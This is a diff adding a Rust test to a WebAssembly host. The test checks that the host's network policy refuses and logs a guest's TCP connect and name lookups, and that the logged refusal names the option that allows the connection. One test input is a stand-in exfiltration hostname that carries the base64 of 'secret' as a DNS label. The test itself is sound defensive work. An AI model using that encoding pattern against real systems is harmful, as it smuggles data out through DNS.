@@ -405,3 +405,43 @@ fn run_passes_the_hosts_log_variables() {
     assert!(out.status.success());
     assert!(String::from_utf8_lossy(&out.stderr).contains("event loop closed"));
 }
+
+/// A refused connect is loud: the host logs it at the default level with the address and the
+/// option that allows it, and the guest's error says the host's network policy refused it.
+/// A name that could leave the machine is refused and logged the same way.
+#[test]
+fn run_logs_every_refusal_with_the_option_that_allows_it() {
+    let example = Path::new(GUEST_EXAMPLES_DIR).join("echo_client.wasm");
+    let out = wasio_host()
+        .arg("run")
+        .arg(&example)
+        .args(["192.0.2.1:7000", "hello"])
+        .env_remove("WASIO_LOG")
+        .env_remove("RUST_LOG")
+        .output()
+        .expect("run wasio-host");
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_ne!(out.status.code(), Some(0), "{stderr}");
+    assert!(
+        stderr.contains("refused a TCP connect to 192.0.2.1:7000")
+            && stderr.contains("-S inherit-network"),
+        "the host logs the refusal: {stderr}"
+    );
+    assert!(
+        stderr.contains("network policy"),
+        "the guest's error names the policy: {stderr}"
+    );
+    let out = wasio_host()
+        .arg("run")
+        .arg(&example)
+        .args(["c2VjcmV0.exfil.example.com:7000", "hello"])
+        .env_remove("WASIO_LOG")
+        .env_remove("RUST_LOG")
+        .output()
+        .expect("run wasio-host");
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("refused a name lookup of \"c2VjcmV0.exfil.example.com\""),
+        "the host logs the refused lookup: {stderr}"
+    );
+}
